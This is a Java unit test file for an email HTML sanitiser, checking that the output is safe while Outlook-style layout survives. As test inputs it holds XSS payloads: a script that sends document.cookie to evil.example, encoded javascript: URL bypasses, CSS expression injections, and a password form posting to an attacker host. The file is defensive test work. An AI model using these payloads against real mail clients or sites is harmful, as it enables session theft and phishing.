package com.workestra.sharedmailboxes.messages.control;

import com.workestra.sharedmailboxes.messages.control.MailHtmlSanitiser.SafeHtml;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.jsoup.select.Elements;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.Locale;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

class MailHtmlSanitiserTest {

    MailHtmlSanitiser sanitiser = new MailHtmlSanitiser();

    @Test
    void scriptsAndEventHandlersNeverReachTheUi() {
        String html = sanitised("""
                <html><head><script src="https://evil.example/x.js"></script></head>
                <body onload="steal()"><p onclick="steal()">Hello <b onmouseover="steal()">team</b></p>
                <script>document.location='https://evil.example/?c='+document.cookie</script>
                <img src=x onerror=alert(1)>
                <img src="cid:ok@contoso" onerror="alert(2)" alt="inline">
                <svg onload="alert(3)"><circle r="1"/></svg>
                <div onfocus="alert(4)" tabindex="0">Regards</div></body></html>""");

        String lower = html.toLowerCase(Locale.ROOT);
        assertFalse(lower.contains("<script"), html);
        assertFalse(lower.contains("<svg"), html);
        assertFalse(lower.contains("evil.example"), html);
        assertFalse(lower.contains("alert("), html);
        assertFalse(lower.matches("(?s).*\\son[a-z]+\\s*=.*"), "no event handler attribute: " + html);
        assertTrue(html.contains("<p>Hello <b>team</b></p>"), html);
        assertTrue(html.contains("<div>Regards</div>"), html);
        assertEquals("inline", Jsoup.parse(html).selectFirst("img[src=cid:ok@contoso]").attr("alt"), html);
    }

    @Test
    void textThatLooksLikeMarkupStaysText() {
        String html = sanitised("<p>if a &lt; b &amp;&amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>");

        assertEquals("<p>if a &lt; b &amp;&amp; &lt;script&gt;alert(1)&lt;/script&gt;</p>", html);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
            "java&#x09;script:alert(1)",
            "  javascript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "/account/login",
            "#top"})
    void aLinkOnlyEverLeadsToTheWebOrToMail(String href) {
        String html = sanitised("<p><a href=\"" + href + "\">Open your invoice</a></p>");

        Element link = Jsoup.parse(html).selectFirst("a");
        assertNotNull(link, html);
        assertFalse(link.hasAttr("href"), "href dropped: " + html);
        assertEquals("Open your invoice", link.text());
        String lower = html.toLowerCase(Locale.ROOT);
        assertFalse(lower.contains("script") || lower.contains("data:") || lower.contains("alert"), html);
    }

    @Test
    void webAndMailLinksStayAndOpenApartFromTheUi() {
        String html = sanitised("<p><a href=\"https://contoso.example/order?id=1&amp;x=2\" target=\"_self\" rel=\"opener\">Order</a>"
                + " <a href=\"MAILTO:help@contoso.example\">Mail us</a> <a href=\"http://contoso.example/\">Site</a></p>");

        Elements links = Jsoup.parse(html).select("a");
        assertEquals(3, links.size(), html);
        assertEquals("https://contoso.example/order?id=1&x=2", links.get(0).attr("href"));
        assertEquals("mailto:help@contoso.example", links.get(1).attr("href"));
        assertEquals("http://contoso.example/", links.get(2).attr("href"));
        for (Element link : links) {
            assertEquals("noopener noreferrer nofollow", link.attr("rel"), html);
            assertEquals("_blank", link.attr("target"), html);
        }
    }

    @Test
    void framesFormsAndEmbeddedObjectsAreGone() {
        String html = sanitised("""
                <p>Please confirm your password</p>
                <iframe src="https://evil.example/frame"></iframe>
                <object data="https://evil.example/flash.swf"><embed src="https://evil.example/e.swf"></object>
                <form action="https://evil.example/collect" method="post">
                  <input type="password" name="pw" value="">
                  <input type="hidden" name="next" value="x">
                  <button type="submit" formaction="https://evil.example/b">Confirm</button>
                  <textarea name="t"></textarea><select><option>one</option></select>
                </form>
                <frameset><frame src="https://evil.example/f"></frameset>""");

        assertTrue(Jsoup.parse(html).select("iframe, object, embed, form, input, button, textarea, select, option, frame, frameset")
                .isEmpty(), html);
        assertFalse(html.contains("evil.example"), html);
        assertTrue(html.contains("Please confirm your password"), html);
    }

    @Test
    void styleSheetsCannotImportRunOrLeak() {
        String html = sanitised("""
                <html><head>
                <style>@import url(https://evil.example/x.css); body { background: url(javascript:alert(1)) }</style>
                <link rel="stylesheet" href="https://evil.example/y.css">
                </head><body><style>p { behavior: url(https://evil.example/x.htc) }</style><p>Hi</p></body></html>""");

        String lower = html.toLowerCase(Locale.ROOT);
        assertFalse(lower.contains("<style") || lower.contains("<link"), html);
        assertFalse(lower.contains("@import") || lower.contains("evil.example") || lower.contains("behavior"), html);
        assertEquals("<p>Hi</p>", html.strip());
    }

    @Test
    void inlineStylesKeepLookButNeverLoadOrRun() {
        assertEquals("color: red", styleOf("background:url(javascript:alert(1)); color: red"));
        assertEquals("height: 10px", styleOf("width: expression(alert(1)); height: 10px"));
        assertEquals("height: 10px", styleOf("width: expr&#101;ssion(alert(1)); height: 10px"));
        assertEquals("height: 10px", styleOf("w\\idth: ex\\pression(alert(1)); height: 10px; color: \\72 ed"));
        assertEquals("font-size: 14px", styleOf("background-image: url(https://tracker.example/p.gif); font-size: 14px"));
        assertEquals("margin: 0 auto", styleOf("position: fixed; top: 0; left: 0; z-index: 9999; margin: 0 auto"));
        assertEquals("color: rgb(0, 120, 212)", styleOf("color: rgb(0, 120, 212); color: rgb(url(x))"));
        assertEquals("color: blue", styleOf("color: red /* */; -moz-binding: url(x.xml#xss); color: blue"));
        assertNull(styleAttribute("behavior: url(x.htc); -moz-binding: url(x)"));
        assertNull(styleAttribute("font-family: \"Arial"));
    }

    @Test
    void aRefreshOrABaseNeverRedirectsTheReader() {
        String html = sanitised("""
                <html><head>
                <meta http-equiv="refresh" content="0;url=https://evil.example/phish">
                <base href="https://evil.example/">
                </head><body>
                <meta http-equiv="refresh" content="5;url=https://evil.example/later">
                <p><a href="/account">Your account</a></p></body></html>""");

        assertFalse(html.toLowerCase(Locale.ROOT).contains("<meta"), html);
        assertFalse(html.toLowerCase(Locale.ROOT).contains("<base"), html);
        assertFalse(html.contains("evil.example"), "the relative link is not resolved against the mail's <base>: " + html);
        assertTrue(html.contains("Your account"), html);
    }

    @Test
    void remoteImagesAreTrackingPixelsUntilTheReaderAsks() {
        String mail = "<p>News</p><img src=\"https://tracker.example/open.gif?u=42\" width=\"1\" height=\"1\" alt=\"\">"
                + "<img src=\"cid:logo@contoso\" alt=\"Contoso\">";

        SafeHtml blocked = sanitiser.sanitise(mail, false);
        assertTrue(blocked.remoteImagesBlocked());
        assertFalse(blocked.html().contains("tracker.example"), blocked.html());
        assertEquals(1, Jsoup.parse(blocked.html()).select("img").size(), blocked.html());

        SafeHtml shown = sanitiser.sanitise(mail, true);
        assertFalse(shown.remoteImagesBlocked());
        assertEquals("https://tracker.example/open.gif?u=42", Jsoup.parse(shown.html()).selectFirst("img[width=1]").attr("src"));

        assertFalse(sanitiser.sanitise("<p>No pictures</p><img src=\"cid:a\">", false).remoteImagesBlocked());
    }

    @Test
    void dataUrlsNeverBecomeImages() {
        String mail = "<p>x</p><img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"svg\">"
                + "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"png\">";

        for (boolean showRemote : new boolean[]{false, true}) {
            String html = sanitiser.sanitise(mail, showRemote).html();
            assertTrue(Jsoup.parse(html).select("img").isEmpty(), html);
            assertFalse(html.contains("data:"), html);
        }
    }

    @Test
    void anOutlookTableKeepsItsLayout() {
        String html = sanitised("""
                <html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
                <head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
                <!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->
                <style type="text/css">.preheader { display:none !important; } @media only screen and (max-width:600px) { .col { width:100% !important; } }</style>
                <title>Contoso News</title></head>
                <body style="margin:0; padding:0; background-color:#f3f2f1;" bgcolor="#f3f2f1">
                <table role="presentation" border="0" cellpadding="0" cellspacing="0" width="600" align="center" bgcolor="#ffffff"
                       style="border-collapse:collapse; mso-table-lspace:0pt; width:600px; border:1px solid #e1dfdd;">
                  <tr>
                    <td align="center" valign="top" colspan="2" bgcolor="#0078d4"
                        style="background-color:#0078d4; padding:20px 0 20px 0; font-family:'Segoe UI', Arial, sans-serif; color:#ffffff;">
                      <img src="cid:image001.png@01DA1234.ABCDEF00" alt="Contoso" width="120" height="40" border="0" style="display:block; border:0;">
                    </td>
                  </tr>
                  <tr>
                    <td class="col" width="300" valign="top" rowspan="2" style="padding:10px; font-size:14px; line-height:20px; text-align:left;">
                      <h1 style="margin:0 0 10px 0; font-size:22px;">Spring offers</h1>
                      <p style="margin:0;"><font face="Segoe UI" color="#323130" size="2">Twenty percent off <b>every</b> plan.</font></p>
                      <ul><li>Faster sync</li><li>Shared mailboxes</li></ul>
                    </td>
                    <td width="300" valign="middle" style="padding:10px; text-align:center;">
                      <a href="https://contoso.example/offers?utm_source=mail" style="color:#0078d4; text-decoration:underline;">See the offers</a>
                    </td>
                  </tr>
                </table>
                <p style="font-size:11px; color:#605e5c;">You receive this because you subscribed.<br>Contoso, One Way, Redmond</p>
                </body></html>""");

        var doc = Jsoup.parse(html);
        Element table = doc.selectFirst("table");
        assertNotNull(table, html);
        assertEquals("0", table.attr("border"));
        assertEquals("0", table.attr("cellpadding"));
        assertEquals("0", table.attr("cellspacing"));
        assertEquals("600", table.attr("width"));
        assertEquals("center", table.attr("align"));
        assertEquals("#ffffff", table.attr("bgcolor"));
        assertEquals("border-collapse: collapse; width: 600px; border: 1px solid #e1dfdd", table.attr("style"));

        Element header = doc.selectFirst("td[colspan=2]");
        assertNotNull(header, html);
        assertEquals("top", header.attr("valign"));
        assertEquals("#0078d4", header.attr("bgcolor"));
        assertEquals("background-color: #0078d4; padding: 20px 0 20px 0; font-family: 'Segoe UI', Arial, sans-serif; color: #ffffff",
                header.attr("style"));

        Element logo = doc.selectFirst("img");
        assertNotNull(logo, html);
        assertEquals("cid:image001.png@01DA1234.ABCDEF00", logo.attr("src"));
        assertEquals("Contoso", logo.attr("alt"));
        assertEquals("120", logo.attr("width"));
        assertEquals("40", logo.attr("height"));
        assertEquals("display: block; border: 0", logo.attr("style"));

        Element column = doc.selectFirst("td[rowspan=2]");
        assertNotNull(column, html);
        assertEquals("300", column.attr("width"));
        assertEquals("padding: 10px; font-size: 14px; line-height: 20px; text-align: left", column.attr("style"));
        assertEquals("Spring offers", doc.selectFirst("h1").text());
        assertEquals("#323130", doc.selectFirst("font").attr("color"));
        assertEquals(2, doc.select("ul > li").size());

        Element link = doc.selectFirst("a");
        assertNotNull(link, html);
        assertEquals("https://contoso.example/offers?utm_source=mail", link.attr("href"));
        assertEquals("color: #0078d4; text-decoration: underline", link.attr("style"));
        assertEquals("See the offers", link.text());
        assertTrue(doc.select("p[style]").last().html().contains("<br>"), html);

        assertFalse(html.contains("Contoso News"), "the head's title is not body text: " + html);
        assertFalse(html.contains("PixelsPerInch") || html.contains("preheader"), "conditional comments and styles go: " + html);
    }

    private String sanitised(String mail) {
        SafeHtml safe = sanitiser.sanitise(mail, false);
        return safe.html();
    }

    private String styleOf(String style) {
        String value = styleAttribute(style);
        assertNotNull(value, "no style kept from " + style);
        return value;
    }

    /** The style attribute the sanitiser leaves on a paragraph, or null when none is left. */
    private String styleAttribute(String style) {
        String html = sanitised("<p style=\"" + style.replace("\"", "&quot;") + "\">text</p>");
        Element paragraph = Jsoup.parse(html).selectFirst("p");
        assertNotNull(paragraph, html);
        assertEquals("text", paragraph.text());
        return paragraph.hasAttr("style") ? paragraph.attr("style") : null;
    }

    @Test
    void inlineImagesPointAtTheServicesAttachmentUrlAndNothingElseChanges() {
        String url = "/api/v1/messages/7/attachments/AAMkAtt%3D%3D";
        SafeHtml safe = sanitiser.sanitise("""
                <p>Logo <img src="cid:Logo.PNG@01DB" alt="logo" onerror="alert(1)"> and
                <img src="cid:other@01DB"> and <img src="https://tracker.example/p.gif"></p>""", false,
                java.util.Map.of(MailHtmlSanitiser.contentId("<logo.png@01db>"), url));

        Element logo = Jsoup.parse(safe.html()).selectFirst("img[alt=logo]");
        assertNotNull(logo, safe.html());
        assertEquals(url, logo.attr("src"), "a listed Content-ID (matched without case or angle brackets) is served here");
        assertFalse(logo.hasAttr("onerror"), safe.html());
        assertTrue(safe.html().contains("cid:other@01DB"), "a Content-ID no attachment has stays as it was: " + safe.html());
        assertFalse(safe.html().contains("tracker.example"), "remote images are still withheld: " + safe.html());
        assertTrue(safe.remoteImagesBlocked());
    }

    @Test
    void aContentIdInACidUrlIsUrlEncodedAsRfc2392Says() {
        assertEquals(MailHtmlSanitiser.contentId("<part1.abc@x>"), MailHtmlSanitiser.contentId("part1%2Eabc@x"));
        assertEquals("a+b@x", MailHtmlSanitiser.contentId("a+b@x"));
    }
}
